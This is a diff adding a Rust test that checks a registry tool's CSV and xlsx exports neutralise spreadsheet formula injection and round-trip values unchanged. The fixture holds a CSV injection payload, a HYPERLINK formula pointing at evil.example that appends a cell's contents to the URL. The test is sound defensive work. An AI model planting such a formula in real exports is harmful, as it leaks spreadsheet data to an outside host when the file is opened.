@@ -192,3 +192,90 @@ fn public_exports_round_trip_too() {
         .stdout;
     assert_eq!(again, third);
 }
+
+#[test]
+fn csv_exports_neutralise_formulas_and_import_back_to_the_same_values() {
+    let env = Env::new();
+    // Written as the export writes them: each value that starts with
+    // = + - @ or ' has one more apostrophe in front.
+    let original = format!(
+        "{HEADER}\n\
+         CU-1,Ana,''Farrill,,,,,CU,Holguín,unknown,\
+         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ver\"\")\",'+53 5555 5555,yes\n\
+         CU-2,Ana,Pérez,,,,,CU,Habana,unknown,'-dice que,'@contacto,no\n"
+    );
+    let file = env.write("formulas.csv", &original);
+    env.import("a.db", &file).ok();
+    let db = env.db("a.db");
+    // The values are the ones meant, without the apostrophes.
+    let json = env
+        .run(&["export", "persons", "--format", "json", "--db", &db])
+        .ok()
+        .stdout;
+    let persons: serde_json::Value = serde_json::from_str(&json).unwrap();
+    // (Names and provinces that start with a formula character are
+    // refused on import; notes and contacts may.)
+    assert_eq!(persons[0]["surname1"], "'Farrill");
+    assert_eq!(
+        persons[0]["private_notes"],
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")"
+    );
+    assert_eq!(persons[0]["family_contact"], "+53 5555 5555");
+    assert_eq!(persons[1]["private_notes"], "-dice que");
+    // No cell of any CSV export starts as a formula, full or public.
+    let full = env.export_csv("a.db");
+    let public = env
+        .run(&["export", "persons", "--public-only", "--db", &db])
+        .ok()
+        .stdout;
+    for (which, csv) in [("full", &full), ("public", &public)] {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let mut rows = 0;
+        for record in reader.records() {
+            rows += 1;
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{which}: {cell}"
+                );
+            }
+        }
+        assert_eq!(rows, if which == "full" { 2 } else { 1 });
+    }
+    assert!(full.contains("'=HYPERLINK(") && full.contains("'+53 5555 5555"));
+    assert!(public.contains(",''Farrill,") && !public.contains("HYPERLINK"));
+    // Export → import gives the same registry back, from either export,
+    // and the escaping is not applied twice.
+    let again = env.write("again.csv", &full);
+    env.import("b.db", &again).ok();
+    assert_eq!(env.export_csv("b.db"), full);
+    let public_file = env.write("public.csv", &public);
+    env.import("c.db", &public_file).ok();
+    let public_again = env
+        .run(&[
+            "export",
+            "persons",
+            "--public-only",
+            "--db",
+            &env.db("c.db"),
+        ])
+        .ok()
+        .stdout;
+    assert_eq!(public_again, public);
+    // The workbook holds the values themselves (as text, never formulas),
+    // and imports to the same registry.
+    let xlsx = env.path("formulas.xlsx");
+    env.run(&[
+        "export",
+        "persons",
+        "--format",
+        "xlsx",
+        "--out",
+        xlsx.to_str().unwrap(),
+        "--db",
+        &db,
+    ])
+    .ok();
+    env.import("d.db", &xlsx).ok();
+    assert_eq!(env.export_csv("d.db"), full);
+}
